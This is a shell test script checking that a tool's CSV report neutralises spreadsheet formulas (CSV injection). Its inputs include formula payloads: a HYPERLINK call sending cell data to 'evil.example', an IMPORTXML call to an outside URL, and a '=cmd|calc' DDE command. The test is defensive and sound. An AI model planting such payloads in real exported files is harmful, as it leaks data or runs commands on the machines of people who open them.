#!/bin/sh
# csv_injection.sh - report --csv neutralises spreadsheet formulas (issue 7,
# finding 10).  A committee opens these files in a spreadsheet, which runs
# any cell starting with = + - @ (or a tab or carriage return) as a
# formula.  Every text cell starting so must come out with a leading
# apostrophe (OWASP, CSV injection), the text after it unchanged; numbers
# in numeric columns (quantity, hours) stay plain numbers, negative ones
# too; text that merely contains = or - is left alone.
. "$(dirname "$0")/lib.sh"

T=$TMP_DIR
A=$T/amira B=$T/ben R=$T/report

member "$A" Amira || finish
member "$B" "@Ben" || finish
community "$A" Elm || finish
join "$B" || finish
k "$A" profile --building "=1+1" --unit "-7"
k "$A" item add --title '=HYPERLINK("http://evil.example/?"&A1,"click")' \
	--location '+shed' --qty 3
I1=$OUT
k "$A" item add --title '-2+3' --category '@SUM(A1:A9)'
k "$A" item add --title "$(printf '\t=cmd|calc')" --unit "$(printf '\r=1')"
k "$A" item add --title 'a=b-c' --location 'Elm 1 - back door'
k "$A" wish add --title '=2*3' --for '-Mrs Okafor' --location '@home'
W1=$OUT
carry "$A" "$B"
k "$B" wish claim "$W1" --note '=IMPORTXML(CONCAT("http://x/",A2),"//a")'
carry "$B" "$A"
k "$A" checkin safe --note '+plus'
if [ "$HAVE_SQLITE3" = 1 ]; then
	# a negative number in a numeric column (a damaged replica could
	# hold one): it must stay a number
	sqlite3 "$A/replica.db" "UPDATE items SET quantity = -5 WHERE title = 'a=b-c'"
fi
run_ok "report --csv" "$A" report --csv "$R"

cat >"$T/cells.py" <<'EOF2'
# cells.py DIR: every cell of every file, as JSON {file: [rows]}
import csv, json, os, sys
out = {}
for name in ('items', 'wishes', 'claims', 'checkins', 'hours'):
    with open(os.path.join(sys.argv[1], name + '.csv'), newline='',
              encoding='utf-8') as f:
        out[name] = list(csv.DictReader(f, strict=True))
print(json.dumps(out))
EOF2
"$PY" -S -E "$T/cells.py" "$R" >"$T/out" 2>"$T/err" ||
	fail "the CSV files parse" "$(cat "$T/err")"

# no text cell anywhere may start a formula
check_json "no text cell starts with = + - @ tab or CR" \
	'not [v for f in d.values() for r in f for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not v[1:].replace(".", "", 1).isdigit()]'
check_json "a formula title gets a leading apostrophe" \
	'"\x27=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in [r["title"] for r in d["items"]]'
check_json "'-2+3' is text with an apostrophe" \
	'"\x27-2+3" in [r["title"] for r in d["items"]]'
check_json "a category starting with @ is neutralised" \
	'"\x27@SUM(A1:A9)" in [r["category"] for r in d["items"]]'
check_json "a tab before a formula is neutralised" \
	'"\x27\t=cmd|calc" in [r["title"] for r in d["items"]]'
check_json "a carriage return before a formula is neutralised" \
	'"\x27\r=1" in [r["unit"] for r in d["items"]]'
check_json "a location starting with + is neutralised" \
	'"\x27+shed" in [r["location"] for r in d["items"]]'
check_json "text that only contains = and - is unchanged" \
	'"a=b-c" in [r["title"] for r in d["items"]] and "Elm 1 - back door" in [r["location"] for r in d["items"]]'
check_json "wish title, for and location are neutralised" \
	'[(r["title"], r["for_name"], r["location"]) for r in d["wishes"]] == [("\x27=2*3", "\x27-Mrs Okafor", "\x27@home")]'
check_json "a claim note is neutralised" \
	'd["claims"][0]["note"].startswith("\x27=IMPORTXML(")'
check_json "a member name starting with @ is neutralised" \
	'"\x27@Ben" in [r["name"] for r in d["hours"]]'
check_json "building and unit of the owner are neutralised" \
	'any(r["owner_building"] == "\x27=1+1" and r["owner_unit"] == "\x27-7" for r in d["items"])'
check_json "a check-in note is neutralised" \
	'"\x27+plus" in [r["note"] for r in d["checkins"]]'
check_json "quantities stay plain numbers" \
	'"3" in [r["quantity"] for r in d["items"]]'
if [ "$HAVE_SQLITE3" = 1 ]; then
	check_json "a negative number in a numeric column stays a number" \
		'"-5" in [r["quantity"] for r in d["items"]]'
	check_match "it is written bare, not quoted" "$(cat "$R/items.csv")" \
		',a=b-c,.*,-5,'
fi
finish
